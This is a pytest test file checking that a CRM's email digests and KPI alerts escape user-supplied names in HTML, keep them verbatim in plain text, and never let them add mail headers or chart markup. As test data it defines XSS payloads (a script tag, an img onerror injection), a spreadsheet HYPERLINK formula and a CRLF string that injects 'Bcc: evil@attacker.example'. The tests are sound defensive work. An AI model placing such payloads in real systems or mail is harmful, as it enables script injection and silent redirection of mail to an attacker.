"""User text is data in digests and alerts too: names that look like HTML, script, a
spreadsheet formula or a mail header show as text in every part of every mail.

Every name a digest can show (team, rep and manager names, deal, account and product
names, the external recipient's name) is hostile; the digests (every section) and an
alert of every kind are dispatched and sent through a real SMTP server, and each received
mail is read as a mail client would: the HTML part has the names only in escaped form
(attributes included), the text part has them verbatim, no name adds a header, and the
charts show the names as text."""

from __future__ import annotations

import html
import re
import xml.etree.ElementTree as ET
from datetime import date
from decimal import Decimal

import plotly.io as pio
import pytest
from aiosmtpd.controller import Controller

from apps.crm.models import Account, Opportunity, Product
from apps.digests import render, services
from apps.digests.content import digest_content
from apps.digests.images import browser_path, renderer_close
from apps.digests.models import AlertKpi, Delivery, DigestSubscription
from apps.kpis.services import rollups_rebuild
from tests.dashboards.conftest import add_book
from tests.digests.conftest import AS_OF_NOW, SITE, Inbox, backdate, free_port
from tests.digests.factories import ForecastValueFactory, monte_carlo
from tests.digests.helpers import html_of, parts, png_decode, text_of
from tests.kpis.conftest import World, build_world

pytestmark = pytest.mark.django_db

SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://x","click")'
HEADER = "\r\nBcc: evil@attacker.example"
#: What must never reach an HTML part unescaped.
RAW = ("<script", "<img src=x", 'x"><', "onerror=alert(1)>")
#: The headers a digest or alert mail has; a name must not add one.
MAIL_HEADERS = {
    "content-type",
    "mime-version",
    "subject",
    "from",
    "to",
    "date",
    "message-id",
    "list-unsubscribe",
    "list-unsubscribe-post",
    "auto-submitted",
}

EAST = f"East {SCRIPT}{HEADER}"
EAST_SMB = f"SMB {IMG}"
WEST = f"West {FORMULA}"
EXTERNAL_NAME = f"Board {IMG}{HEADER}"


@pytest.fixture
def inbox(settings):
    """A real SMTP server on 127.0.0.1 with Django's SMTP backend pointed at it."""
    box = Inbox()
    port = free_port()
    controller = Controller(box, hostname="127.0.0.1", port=port)
    controller.start()
    settings.EMAIL_BACKEND = "django.core.mail.backends.smtp.EmailBackend"
    settings.EMAIL_HOST, settings.EMAIL_PORT = "127.0.0.1", port
    settings.EMAIL_USE_TLS = settings.EMAIL_USE_SSL = False
    settings.EMAIL_HOST_USER = settings.EMAIL_HOST_PASSWORD = ""
    settings.EMAIL_TIMEOUT = 5
    settings.SITE_URL = SITE
    try:
        yield box
    finally:
        controller.stop()


@pytest.fixture(scope="module", autouse=True)
def _chart_browser():
    """The digests' chart browser, closed before pytest's output ends."""
    yield
    renderer_close()


@pytest.fixture
def hostile(db) -> World:
    """The digest tests' book (Q3 2024) with every name a digest can show made hostile."""
    w = build_world()
    add_book(w)
    for team, name in ((w.east, EAST), (w.east_sub, EAST_SMB), (w.west, WEST)):
        team.name = name
        team.save()
    people = (
        (w.cso, "cso@acme.example", "Chief", FORMULA),
        (w.manager_east, "mgr@acme.example", IMG, SCRIPT),
        (w.rep_a, "rep_a@acme.example", SCRIPT, IMG),
        (w.rep_b, "rep_b@acme.example", FORMULA, SCRIPT + HEADER),
        (w.rep_c, "rep_c@acme.example", IMG, FORMULA),
    )
    for user, email, first, last in people:
        user.email, user.first_name, user.last_name = email, first, last
        user.save()
    names = (SCRIPT, IMG, FORMULA)
    for i, deal in enumerate(Opportunity.objects.order_by("pk")):
        Opportunity.objects.filter(pk=deal.pk).update(name=f"Deal {i} {names[i % 3]}")
    for i, account in enumerate(Account.objects.order_by("pk")):
        Account.objects.filter(pk=account.pk).update(name=f"Account {i} {names[i % 3]}")
    for i, product in enumerate(Product.objects.order_by("pk")):
        Product.objects.filter(pk=product.pk).update(name=f"Product {i} {names[i % 3]}")
    # customer figures for the company-wide alerts (NRR, GRR, NPS)
    w.subscription("Acme", "100", date(2023, 1, 1))
    w.nps("Acme", 9, date(2024, 8, 1))
    # the stored forecasts the forecast section and the forecast alert read
    for key, team in (("company", None), (f"team:{w.east.pk}", w.east)):
        ForecastValueFactory(scope_key=key, team=team, expected=Decimal("4230.00"))
        monte_carlo(
            scope_key=key,
            team=team,
            expected=Decimal("4150.00"),
            p10=Decimal("3900.00"),
            p50=Decimal("4185.00"),
            p90=Decimal("4410.00"),
        )
    rollups_rebuild()
    return w


def _subscribe(w: World, **kwargs) -> DigestSubscription:
    sections = ["headline", "forecast", "pipeline", "deals", "attainment", "manager"]
    if kwargs.get("team") is None:
        sections.append("customers")  # company-wide figures: the company scope only
    if kwargs.get("recipient") is None:
        sections.remove("manager")  # the manager's to-do list is not for external addresses
    sub = services.subscription_create(
        frequency="weekly", weekday=0, hour=7, time_zone="UTC", sections=sections, **kwargs
    )
    backdate(sub)
    return sub


def _alerts(sub: DigestSubscription, actor, kinds) -> None:
    """One alert per kind, set so that it fires on the book (every value is above)."""
    for kind in kinds:
        services.alert_create(
            actor=actor, subscription=sub, kpi=kind, operator="above", threshold=Decimal("-1000")
        )


def _no_markup(html_part: str, where: str) -> None:
    for raw in RAW:
        assert raw not in html_part, f"{where}: {raw!r} unescaped in the HTML part"
    # every attribute value is whole: quoted, with no raw markup inside
    for attr in re.findall(r'\s(?:alt|title|href|src)="([^"]*)"', html_part):
        assert "<" not in attr and ">" not in attr, f"{where}: {attr!r}"


def test_hostile_names_stay_text_in_every_digest_and_alert(
    hostile, inbox, django_capture_on_commit_callbacks
):
    w = hostile
    # given digests of every section for East's manager (East), the CSO (company) and an
    # external address (company, a hostile name), and an alert of every kind
    east = _subscribe(w, actor=w.manager_east, recipient=w.manager_east, team=w.east)
    company = _subscribe(w, actor=w.cso, recipient=w.cso)
    _subscribe(
        w,
        actor=w.cso,
        recipient_email="board@example.com",
        recipient_name=EXTERNAL_NAME,
    )
    customers = {AlertKpi.NRR, AlertKpi.GRR, AlertKpi.NPS}
    _alerts(east, w.manager_east, [k for k in AlertKpi.values if k not in customers])
    _alerts(company, w.cso, sorted(customers))

    # when the dispatcher runs and the mails are sent
    with django_capture_on_commit_callbacks(execute=True):
        result = services.digests_dispatch(now=AS_OF_NOW)

    # then every digest and every alert went out, each to its one address
    assert result.errors == []
    assert (len(result.digests), len(result.alerts)) == (3, len(AlertKpi.values))
    failed = list(Delivery.objects.exclude(status="sent").values_list("kind", "error"))
    assert failed == []
    assert len(inbox.messages) == 3 + len(AlertKpi.values)
    assert sorted(rcpts[0] for _, rcpts in inbox.envelopes) == sorted(
        ["mgr@acme.example", "cso@acme.example", "board@example.com"]
        + ["mgr@acme.example"] * (len(AlertKpi.values) - len(customers))
        + ["cso@acme.example"] * len(customers)
    )
    assert all(len(rcpts) == 1 for _, rcpts in inbox.envelopes)

    shown_in_html: set[str] = set()
    shown_in_text: set[str] = set()
    for mail in inbox.messages:
        subject = mail["Subject"]
        # no name adds a header: the set of headers is the app's, none repeated
        headers = [k.lower() for k in mail]
        assert set(headers) <= MAIL_HEADERS, headers
        assert len(headers) == len(set(headers)), headers
        assert "\r" not in str(subject) and "\n" not in str(subject)
        assert mail["Bcc"] is None and "evil@attacker.example" not in str(mail["To"])

        html_part, text_part = html_of(mail), text_of(mail)
        _no_markup(html_part, subject)
        # the text part is plain text: names verbatim, never HTML-escaped
        assert "&lt;" not in text_part and "&quot;" not in text_part, subject
        for name in (SCRIPT, IMG, FORMULA):
            if html.escape(name) in html_part:
                shown_in_html.add(name)
            if name in text_part:
                shown_in_text.add(name)
        if "East" in subject:
            # the team name, folded onto one line, is the subject's scope
            assert f"East {SCRIPT} Bcc: evil@attacker.example" in subject
            assert html.escape(f"East {SCRIPT}") in html_part
            assert f"East {SCRIPT}" in text_part
        for image in parts(mail).get("image/png", []):
            png_decode(image.get_content())
    # each hostile name was really shown, escaped in HTML and verbatim in text
    assert shown_in_html == shown_in_text == {SCRIPT, IMG, FORMULA}
    subjects = sorted(str(m["Subject"]) for m in inbox.messages)
    assert sum("East" in s for s in subjects) == 1 + len(AlertKpi.values) - len(customers)


def test_chart_alt_texts_are_escaped_and_charts_show_names_as_text(hostile, settings, monkeypatch):
    settings.SITE_URL = SITE
    w = hostile
    # given the CSO's company digest: its attainment chart labels the regions by name
    sub = _subscribe(w, actor=w.cso, recipient=w.cso)
    content = digest_content(subscription=sub, as_of=AS_OF_NOW.date())
    payload = render.digest_payload(content)
    (attainment,) = [b for b in content.charts if b.key == "attainment"]

    # then its alt text names the regions, escaped in the attribute
    alts = re.findall(r'<img src="cid:([^"]+)"[^>]*\salt="([^"]*)"', payload["html"])
    assert {cid for cid, _ in alts} == {b.cid for b in content.charts}
    alt = dict(alts)[attainment.cid]
    assert html.unescape(alt).startswith("Quota attainment by team: ")
    for region in (EAST, WEST):
        assert html.escape(region) in alt
        assert html.unescape(alt).count(region) == 1
    _no_markup(payload["html"], "company digest")

    # and the chart, drawn by the same renderer (plotly.js in Chromium) as SVG instead of
    # PNG, shows each region's name as text: no element or attribute made of it
    if browser_path():
        monkeypatch.setenv("BROWSER_PATH", browser_path())  # where Kaleido looks
    svg = ET.fromstring(
        pio.to_image(attainment.chart, format="svg", width=560, height=attainment.chart_height)
    )
    tags = {element.tag.rsplit("}", 1)[-1] for element in svg.iter()}
    assert not tags & {"script", "img", "foreignObject", "a"}, tags
    assert not any(
        name.lower().startswith("on") for element in svg.iter() for name in element.attrib
    )
    labels = ["".join(e.itertext()) for e in svg.iter() if e.tag.endswith("}text")]
    # a line break in a name is drawn as a line break (the lines are one text element)
    assert f"East {SCRIPT} Bcc: evil@attacker.example" in labels
    assert WEST in labels
